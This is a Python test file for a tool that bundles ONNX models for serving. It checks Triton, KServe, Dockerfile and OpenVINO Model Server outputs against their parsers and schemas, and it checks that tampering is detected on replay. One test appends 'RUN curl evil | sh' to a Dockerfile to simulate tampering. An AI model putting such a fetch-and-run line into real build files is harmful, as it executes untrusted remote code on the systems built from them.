"""Files for other servers: read by their own parsers and schemas, and made again on replay."""

import json
import re
import shutil
from types import SimpleNamespace

import jsonschema
import numpy as np
import onnx
import onnxruntime
import pytest
import yaml
from dockerfile_parse import DockerfileParser
from google.protobuf import text_format
from onnx import TensorProto, helper
from support.bundles import rehash
from tritonclient.grpc import model_config_pb2

from optim.arrays import TensorSpec
from optim.bundles import manifest
from optim.bundles.bundle import libraries, write_bundle
from optim.bundles.deployment import Deployed, all_deployments, chosen, write_deployments
from optim.bundles.remade import same_deployments, same_script
from optim.errors import InputError
from optim.recipe import Recipe

pytestmark = pytest.mark.deep
CONTAINER = {
    "type": "object",
    "required": ["name", "image"],
    "additionalProperties": False,
    "properties": {
        "name": {"type": "string", "pattern": "^[a-z0-9]([-a-z0-9]*[a-z0-9])?$"},
        "image": {"type": "string"},
        "ports": {
            "type": "array",
            "items": {
                "type": "object",
                "required": ["containerPort"],
                "properties": {"containerPort": {"type": "integer"}, "protocol": {"enum": ["TCP"]}},
            },
        },
        "readinessProbe": {
            "type": "object",
            "properties": {"httpGet": {"type": "object", "required": ["port"]}},
        },
        "resources": {
            "type": "object",
            "properties": {"requests": {"additionalProperties": {"type": "string"}}},
        },
    },
}
KSERVE = {
    "type": "object",
    "required": ["apiVersion", "kind", "metadata", "spec"],
    "properties": {
        "apiVersion": {"const": "serving.kserve.io/v1beta1"},
        "kind": {"const": "InferenceService"},
        "metadata": {
            "type": "object",
            "properties": {"name": {"pattern": "^[a-z]([-a-z0-9]*[a-z0-9])?$", "maxLength": 63}},
        },
        "spec": {
            "type": "object",
            "required": ["predictor"],
            "properties": {
                "predictor": {
                    "type": "object",
                    "properties": {
                        "minReplicas": {"type": "integer"},
                        "containers": {"type": "array", "items": CONTAINER},
                    },
                }
            },
        },
    },
}
"""The CRD in short, as far as it is used: config/crd/full of github.com/kserve/kserve, v0.15."""
MODEL_SERVER = {
    "type": "object",
    "required": ["model_config_list"],
    "additionalProperties": False,
    "properties": {
        "model_config_list": {
            "type": "array",
            "items": {
                "type": "object",
                "required": ["config"],
                "properties": {
                    "config": {
                        "type": "object",
                        "required": ["name", "base_path"],
                        "additionalProperties": False,
                        "properties": {
                            "name": {"type": "string"},
                            "base_path": {"type": "string"},
                            "nireq": {"type": "integer", "minimum": 0},
                            "target_device": {"type": "string"},
                            "plugin_config": {"type": "object"},
                        },
                    }
                },
            },
        }
    },
}
"""Of src/schema.cpp of github.com/openvinotoolkit/model_server, as far as it is used."""


@pytest.fixture(scope="module")
def deployed(findings, tmp_path_factory):
    """A bundle with all that its recipe can have; the model's name is hostile."""
    names = [n for n, one in all_deployments().items() if not one.refuses(findings.recipe)]
    return write_bundle(findings, tmp_path_factory.mktemp("deployed") / "bundle", names)


@pytest.fixture
def repository(deployed):
    (config,) = (deployed / "deploy" / "triton").glob("*/config.pbtxt")
    return config


def test_triton_reads_its_configuration(repository, findings):
    config = text_format.Parse(repository.read_text(), model_config_pb2.ModelConfig())
    assert config.name == repository.parent.name and config.backend == "onnxruntime"
    assert re.fullmatch("[a-z0-9-]+", config.name), "of a name with markup in it"
    (given,) = findings.original.inputs
    assert config.input[0].name == given.name
    assert config.input[0].data_type == model_config_pb2.TYPE_FP32
    assert tuple(config.input[0].dims) == given.shape[1:]
    assert config.max_batch_size == 8 and config.HasField("dynamic_batching")
    assert config.instance_group[0].count == 1
    assert config.parameters["intra_op_thread_count"].string_value == "1"


def test_tritons_model_answers_rows_together_as_alone(repository, deployed):
    free = onnxruntime.InferenceSession(repository.parent / "1" / "model.onnx")
    bound = onnxruntime.InferenceSession(deployed / "model.onnx")
    (given,) = free.get_inputs()
    assert isinstance(given.shape[0], str)
    rows = np.random.default_rng(1).standard_normal((5, *given.shape[1:])).astype(np.float32)
    (together,) = free.run(None, {given.name: rows})
    alone = [bound.run(None, {given.name: row[None]})[0] for row in rows]
    np.testing.assert_allclose(together, np.concatenate(alone), atol=1e-5)


def test_a_model_that_mixes_rows_is_not_batched(tmp_path):
    x, y = (helper.make_tensor_value_info(n, TensorProto.FLOAT, [1, 4]) for n in "xy")
    mean = helper.make_node("ReduceMean", ["x"], ["m"], axes=[0, 1], keepdims=1)
    add = helper.make_node("Add", ["x", "m"], ["y"])
    graph = helper.make_graph([mean, add], "g", [x], [y])
    onnx.save(
        helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)]),
        tmp_path / "model.onnx",
    )
    np.savez(tmp_path / "example.npz", x=np.ones((1, 4), np.float32))
    specs = ({"name": n, "dtype": "float32", "shape": (1, 4)} for n in "xy")
    given, out = (TensorSpec(**spec) for spec in specs)
    of = Deployed(
        "n", Recipe.baseline(), (given,), (out,), tmp_path / "model.onnx",
        tmp_path / "example.npz", "3.11", 13,
    )  # fmt: skip
    write_deployments(["triton"], of, tmp_path / "deploy")
    text = (tmp_path / "deploy/triton/n/config.pbtxt").read_text()
    config = text_format.Parse(text, model_config_pb2.ModelConfig())
    assert config.max_batch_size == 0 and not config.HasField("dynamic_batching")
    assert list(config.input[0].dims) == [1, 4]
    kept = onnxruntime.InferenceSession(tmp_path / "deploy/triton/n/1/model.onnx")
    assert kept.get_inputs()[0].shape == [1, 4]


def test_kserve_reads_its_service(deployed):
    text = (deployed / "deploy/kserve/inference_service.yaml").read_text()
    service = yaml.safe_load(text)
    jsonschema.validate(service, KSERVE)
    (container,) = service["spec"]["predictor"]["containers"]
    start = (deployed / "deploy/docker/Dockerfile").read_text().splitlines()[1]
    assert f"-t {container['image']} " in start, "the image that the Dockerfile makes"


def test_the_dockerfile_copies_what_the_server_needs(deployed, tmp_path):
    parsed = dockerfile(deployed / "deploy/docker/Dockerfile", tmp_path)
    steps = [(one["instruction"], one["value"]) for one in parsed.structure]
    names = [name for name, _ in steps if name != "COMMENT"]
    assert names[0] == "FROM" and names[-1] == "ENTRYPOINT" and "USER" in names
    copied = [word for name, value in steps if name == "COPY" for word in value.split()[:-1]]
    assert all((deployed / name).exists() for name in copied)
    assert {"host.py", "model.onnx", "example.npz", "server/"} <= set(copied)
    assert json.loads(steps[-1][1])[:2] == ["python", "host.py"]


def dockerfile(path, folder):
    (folder / "Dockerfile").write_text(path.read_text())
    return DockerfileParser(str(folder / "Dockerfile"))


def test_openvino_model_server_reads_its_configuration(findings, exported, tmp_path):
    recipe = Recipe.parse("openvino:precision=bf16,threads=2")
    of = Deployed(
        "A (b)", recipe, findings.original.inputs, findings.original.outputs,
        exported / "model.onnx", exported / "example.npz", "3.11", 17,
    )  # fmt: skip
    write_deployments(["openvino_model_server"], of, tmp_path)
    config = json.loads((tmp_path / "openvino_model_server/config.json").read_text())
    jsonschema.validate(config, MODEL_SERVER)
    (model,) = (one["config"] for one in config["model_config_list"])
    assert model["plugin_config"]["INFERENCE_PRECISION_HINT"] == "bf16"
    parsed = dockerfile(tmp_path / "openvino_model_server/Dockerfile", tmp_path)
    copies = [s["value"] for s in parsed.structure if s["instruction"] == "COPY"]
    assert copies[0] == f"model.onnx {model['base_path']}/1/"


def test_what_cannot_be_deployed_is_a_sentence():
    with pytest.raises(InputError, match="does not run ONNX Runtime"):
        chosen(["openvino_model_server"], Recipe.baseline())
    with pytest.raises(InputError, match=r"no deployment 'nowhere'.*docker"):
        chosen(["nowhere"], Recipe.baseline())
    assert chosen(["kserve"], Recipe.baseline()) == ["docker", "kserve"], "which it rests on"


def test_made_again_they_are_the_same_and_a_change_is_seen(deployed, findings, tmp_path):
    found = same_deployments(deployed, findings)
    assert found.ok and "triton" in found.text
    for name, text in (("docker/Dockerfile", "RUN curl evil | sh"), ("docker/more", "x")):
        copy = shutil.copytree(deployed, tmp_path / name.replace("/", "-"))
        with (copy / "deploy" / name).open("a") as sink:
            sink.write(text)
        rehash(copy)
        assert manifest.verify(copy) and same_deployments(copy, findings).ok is False


def test_a_module_that_was_added_to_the_server_is_seen(exported, findings, tmp_path):
    assert same_script(exported, claimed(), findings).ok
    copy = shutil.copytree(exported, tmp_path / "server")
    (copy / "server/optim/extra.py").write_text("import os")
    rehash(copy)
    assert manifest.verify(copy) and same_script(copy, claimed(), findings).ok is False


def claimed():
    """Of a replay's claims, what a script is made of: the versions."""
    return SimpleNamespace(about=SimpleNamespace(libraries=libraries()))
